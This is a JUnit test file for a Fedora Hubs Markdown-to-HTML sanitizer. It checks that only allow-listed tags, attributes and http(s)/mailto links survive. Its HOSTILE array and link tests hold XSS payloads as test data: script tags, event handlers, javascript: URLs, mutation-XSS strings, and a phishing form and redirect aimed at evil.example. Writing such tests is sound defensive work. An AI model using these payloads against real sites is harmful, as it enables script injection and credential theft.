package org.fedoraproject.hubs.widgets.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/**
 * What a page inserts from a widget's Markdown: formatting and safe links, and nothing that runs,
 * loads a frame, restyles the page or points a link anywhere but http(s) and mailto.
 */
class MarkdownTextTest {

    /** Hostile input, both as Markdown (with raw HTML in it) and as HTML given straight to the allow-list. */
    private static final String[] HOSTILE = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"https://example.org/a.png\" onerror=\"alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"https://example.org\" onclick=\"alert(1)\" target=\"_top\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
        "<style>body { display: none }</style>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">cover</p>",
        "<svg onload=alert(1)><circle/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<div><b><i onmouseover=\"alert(1)\"><em><a href=\"javascript:alert(1)\">nested</a></em></i></b></div>",
        "<form action=\"https://evil.example\"><input name=p type=password><button>Sign in</button></form>",
        "<p id=\"sign-in\" class=\"button\">impostor</p>",
        "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    };

    @Test
    void rawHtmlInMarkdownShowsAsText() {
        assertThat(MarkdownText.toSafeHtml("Hello <script>alert(1)</script> **world**"))
                .isEqualTo("<p>Hello &lt;script&gt;alert(1)&lt;/script&gt; <strong>world</strong></p>");
    }

    @Test
    void hostileMarkdownYieldsOnlyAllowedMarkup() {
        for (String input : HOSTILE) {
            assertOnlyAllowedMarkup(input, MarkdownText.toSafeHtml(input));
        }
    }

    @Test
    void theAllowListAloneStopsHostileHtml() {
        for (String input : HOSTILE) {
            assertOnlyAllowedMarkup(input, MarkdownText.clean(input));
        }
        assertThat(MarkdownText.clean("<div><b><i onmouseover=\"alert(1)\"><em>nested</em></i></b></div>"))
                .isEqualTo("<em>nested</em>");
        assertThat(MarkdownText.clean("<script>alert(1)</script><p>kept</p>")).isEqualTo("<p>kept</p>");
    }

    @ParameterizedTest
    @ValueSource(strings = {"javascript:alert(1)", "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "/admin/", "ftp://example.org/"})
    void markdownLinksToOtherSchemesLoseTheirTarget(String target) {
        String html = MarkdownText.toSafeHtml("[click](" + target + ")");

        Element link = Jsoup.parseBodyFragment(html).selectFirst("a");
        assertThat(link).isNotNull();
        assertThat(link.hasAttr("href")).as(html).isFalse();
        assertThat(link.text()).isEqualTo("click");
    }

    @Test
    void httpHttpsAndMailtoLinksAreKeptWithNofollowNoopener() {
        String html = MarkdownText.toSafeHtml("[wiki](https://fedoraproject.org/wiki) [old](http://example.org)"
                + " [mail](mailto:infrastructure@lists.fedoraproject.org) <https://pagure.io/fedora-hubs>");

        assertThat(html).isEqualTo("<p><a href=\"https://fedoraproject.org/wiki\" rel=\"nofollow noopener\">wiki</a>"
                + " <a href=\"http://example.org\" rel=\"nofollow noopener\">old</a>"
                + " <a href=\"mailto:infrastructure@lists.fedoraproject.org\" rel=\"nofollow noopener\">mail</a>"
                + " <a href=\"https://pagure.io/fedora-hubs\" rel=\"nofollow noopener\">https://pagure.io/fedora-hubs</a></p>");
    }

    @Test
    void aTitleCannotBreakOutOfItsAttribute() {
        String html = MarkdownText.toSafeHtml("[t](https://example.org \"a\\\" onclick=\\\"alert(1)\")");

        Element link = Jsoup.parseBodyFragment(html).selectFirst("a");
        assertThat(link.attributes().asList()).extracting(a -> a.getKey()).containsExactlyInAnyOrder("href", "title", "rel");
        assertThat(link.attr("title")).isEqualTo("a\" onclick=\"alert(1)");
    }

    @Test
    void imagesOnlyFromHttps() {
        assertThat(MarkdownText.toSafeHtml("![logo](https://fedoraproject.org/logo.png) ![plain](http://example.org/a.png)"))
                .isEqualTo("<p><img src=\"https://fedoraproject.org/logo.png\" alt=\"logo\"> <img alt=\"plain\"></p>");
    }

    @Test
    void formattingIsKept() {
        assertThat(MarkdownText.toSafeHtml("*Infra* meeting: **Thursday**, `#fedora-meeting`"))
                .isEqualTo("<p><em>Infra</em> meeting: <strong>Thursday</strong>, <code>#fedora-meeting</code></p>");
        assertThat(MarkdownText.toSafeHtml("# Title\n\n- a\n- b\n\n> quote"))
                .isEqualTo("<h1>Title</h1>\n<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<blockquote>\n<p>quote</p>\n</blockquote>");
    }

    @Test
    void noTextIsNoHtml() {
        assertThat(MarkdownText.toSafeHtml(null)).isEmpty();
        assertThat(MarkdownText.toSafeHtml("  ")).isEmpty();
    }

    private static final java.util.Set<String> TAGS = java.util.Set.of("p", "br", "hr", "h1", "h2", "h3", "h4", "h5",
            "h6", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a", "img");

    /** Parses the output as a browser would and checks every element and attribute against the allow-list. */
    private static void assertOnlyAllowedMarkup(String input, String html) {
        Document parsed = Jsoup.parseBodyFragment(html);
        for (Element element : parsed.body().getAllElements()) {
            if (element == parsed.body()) {
                continue;
            }
            assertThat(TAGS).as("element <%s> from %s", element.tagName(), input).contains(element.tagName());
            element.attributes().forEach(attribute -> {
                String key = attribute.getKey();
                assertThat(key).as("attribute of <%s> from %s", element.tagName(), input)
                        .isIn("href", "title", "rel", "src", "alt", "start");
                if (key.equals("href")) {
                    assertThat(attribute.getValue()).as("link from %s", input).matches("(?i)(https?://|mailto:).*");
                }
                if (key.equals("src")) {
                    assertThat(attribute.getValue()).as("image from %s", input).startsWith("https://");
                }
            });
            if (element.tagName().equals("a")) {
                assertThat(element.attr("rel")).isEqualTo("nofollow noopener");
            }
        }
    }
}
